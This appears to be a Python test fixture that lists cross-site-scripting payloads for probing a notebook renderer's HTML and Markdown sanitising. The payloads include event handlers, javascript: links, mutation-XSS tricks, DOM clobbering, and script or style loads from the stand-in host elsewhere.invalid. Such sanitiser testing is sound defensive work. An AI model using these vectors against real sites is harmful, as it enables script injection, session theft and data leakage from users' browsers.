"""Pieces of HTML that try to run, to fetch, to lead away or to break out, by what they try.

They ask for `ELSEWHERE` and set the title to "owned", so that a browser shows which of them came through.
"""

from __future__ import annotations

import base64
from typing import Any

from notebooks_made import code, failed, said, shown, words

ELSEWHERE = "http://elsewhere.invalid"
RUN = "document.title='owned'"
_SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script><image href="{ELSEWHERE}/s"/></svg>'
)

FRAGMENTS: dict[str, str] = {
    "script": f"<script>{RUN}</script><script src='{ELSEWHERE}/a.js'></script>",
    "script in pieces": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "handler": f'<img src=x onerror="{RUN}"><b onclick="{RUN}" ONMOUSEOVER={RUN}>b</b>',
    "handler after a slash": f"<img/src=x/onerror={RUN}><svg/onload={RUN}>",
    "handler with a line break": f"<img src=x on\nerror={RUN} onerror\n=\n{RUN}>",
    "details that open": f'<details open ontoggle="{RUN}"><summary>s</summary></details>',
    "autofocus": f'<input autofocus onfocus="{RUN}"><b tabindex=0 autofocus onfocus="{RUN}">b</b>',
    "javascript link": f'<a href="javascript:{RUN}">a</a><a href="JaVa&#9;ScRiPt:{RUN}">a</a><a href=" &#1;javascript:{RUN}">a</a>',
    "data link": f'<a href="data:text/html,<script>{RUN}</script>">a</a><a href="vbscript:x">a</a>',
    "svg in line": _SVG,
    "svg picture with a page in it": f'<svg><foreignObject><iframe src="javascript:{RUN}"></iframe></foreignObject></svg>',
    "svg animates a link": f'<svg><a><animate attributeName=href values="javascript:{RUN}"/><text>x</text></a></svg>',
    "use": f'<svg><use href="{ELSEWHERE}/x.svg#a"/></svg>',
    "iframe": f'<iframe src="{ELSEWHERE}/f"></iframe><iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "object": f'<object data="{ELSEWHERE}/o"></object><embed src="{ELSEWHERE}/e"><applet code=x></applet>',
    "meta": f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}/m"><meta http-equiv="Set-Cookie" content="a=b">',
    "link element": f'<link rel="stylesheet" href="{ELSEWHERE}/c.css"><link rel="prefetch" href="{ELSEWHERE}/p">',
    "base": f'<base href="{ELSEWHERE}/"><a href="b">b</a><base target="_top">',
    "form": f'<form action="{ELSEWHERE}/form"><input name=a><button formaction="{ELSEWHERE}/b">b</button></form>',
    "picture elsewhere": f'<img src="{ELSEWHERE}/i.png"><img srcset="{ELSEWHERE}/s.png 1x"><img src="//elsewhere.invalid/p.png">',
    "media": f'<video src="{ELSEWHERE}/v" poster="{ELSEWHERE}/p"><source src="{ELSEWHERE}/s"></video><audio src="{ELSEWHERE}/a">',
    "background": f'<table background="{ELSEWHERE}/t"><tr><td background="{ELSEWHERE}/d">x</table><body background="{ELSEWHERE}/y">',
    "style sheet": f"<style>@import url({ELSEWHERE}/i.css); body {{background: url({ELSEWHERE}/b)}} *{{display:none}}</style>",
    "style of a table": f"<style>#T_a {{background: url({ELSEWHERE}/t); color: red}} #T_a, body {{display: none}}</style><table id=T_a><tr><td>x</table>",
    "style that ends itself": f"<style>#T_a {{color: red</style><script>{RUN}</script>}}</style><table id=T_a><tr><td>x</table>",
    "style attribute": f"<p style=\"background: url('{ELSEWHERE}/u'); position: fixed; inset: 0; behavior: url(x)\">p</p>",
    "style in escapes": f"<p style='background: \\75rl({ELSEWHERE}/e)'>p</p><p style='background:image-set(\"{ELSEWHERE}/i\" 1x)'>p</p>",
    "top navigation": f'<a href="{ELSEWHERE}/top" target="_top">t</a><a href="{ELSEWHERE}/parent" target=_parent>p</a>',
    "ping": f'<a href="#x" ping="{ELSEWHERE}/ping">p</a>',
    "clobbering": "<a id=document><a id=document name=title><form id=location name=cookie></form><img name=body><p id=nbp-x>",
    "mathml mutation": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    "svg mutation": f"<svg></p><style><a id='</style><img src=1 onerror={RUN}>'>",
    "noscript mutation": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "template": f"<template><script>{RUN}</script></template><noembed><img src=x onerror={RUN}></noembed>",
    "comment": f"<!--><img src=x onerror={RUN}>--><!--[if IE]><script>{RUN}</script><![endif]-->",
    "title mutation": f"<title><a title='</title><img src=x onerror={RUN}>'></title>",
    "xmp": f"<xmp><p title='</xmp><img src=x onerror={RUN}>'></xmp><plaintext>",
    "cdata": f"<svg><![CDATA[><img src=x onerror={RUN}>]]></svg><?xml-stylesheet href='{ELSEWHERE}/x'?>",
    "nul": f"<scr\0ipt>{RUN}</scr\0ipt><img src=x one\0rror={RUN}>",
    "unclosed": f'<div><table><td><b><a href="{ELSEWHERE}/u"><textarea><img src="',
    "closes what is round it": f"</div></pre></section></main></body></html><script>{RUN}</script>",
    "placeholder": '<data value="0"></data><data value="-0">x</data>',
}
"""HTML: it is tried in Markdown, in an output, in a traceback and wherever else a notebook holds text."""

MARKDOWN: dict[str, str] = {
    "javascript link": f"[a](javascript:{RUN}) [b](<java\nscript:{RUN}>) [c]: javascript:{RUN}\n\n[c] <javascript:{RUN}>",
    "attribute from alt": f'![" onerror="{RUN}](x) ![x](x "\\" onerror=\\"{RUN}") ![$\\text{{" onerror="{RUN}}}$](data:image/png;base64,AA==)',
    "attribute from address": f'[a](http://x/"onmouseover="{RUN}) ![a](data:image/png;base64,AA=="onerror="{RUN})',
    "formula": f"$\\text{{<script>{RUN}</script>}}$ $$\\href{{javascript:{RUN}}}{{x}}$$ $\\style{{x:url({ELSEWHERE})}}{{y}}$",
    "formula with a picture": f"$\\includegraphics{{{ELSEWHERE}/x}}$ $<img src=x onerror={RUN}>$",
    "heading": f'# <img src=x onerror={RUN}>\n\n## " onclick="{RUN}',
    "fence": f"```<img/src=x/onerror={RUN}>\n</code></pre><script>{RUN}</script>\n```\n\n```mermaid\n<script>{RUN}</script>\n```",
    "html in a table": f"|a|\n|-|\n|<img src=x onerror={RUN}>|",
    "attachment": "![a](attachment:a.png) ![b](attachment:none.png)",
}


def cells_of(fragment: str) -> list[dict[str, Any]]:
    """A fragment in each place where a notebook can hold it."""
    encoded = base64.b64encode(fragment.encode(errors="replace")).decode()
    return [
        words(fragment),
        words(f"text\n\n{fragment}\n\ntext", attachments={"a.png": {"image/png": fragment, "text/html": encoded}}),
        {"cell_type": "raw", "metadata": {"format": "text/html"}, "source": fragment},
        {"cell_type": fragment, "metadata": {"tags": [fragment]}, "source": fragment},
        code(fragment, said(fragment), said(f"\x1b[{fragment}m", "stderr"), failed(fragment, f"\x1b[31m{fragment}")),
        code("", shown(text_html=fragment, text_plain=fragment)),
        code("", shown(text_html=["<div>", fragment, "</div>"])),
        code("", shown(text_markdown=fragment), shown(text_latex=f"${fragment}$"), shown(text_plain=fragment)),
        code("", shown(image_svg_xml=fragment), shown(image_png=fragment), shown(image_jpeg=encoded)),
        code("", shown(application_javascript=fragment), shown(application_json={fragment: [fragment]})),
        code(
            "",
            {
                "output_type": "display_data",
                "metadata": {"image/png": {"width": fragment}},
                "data": {fragment: fragment, "image/png": encoded},
            },
        ),
    ]
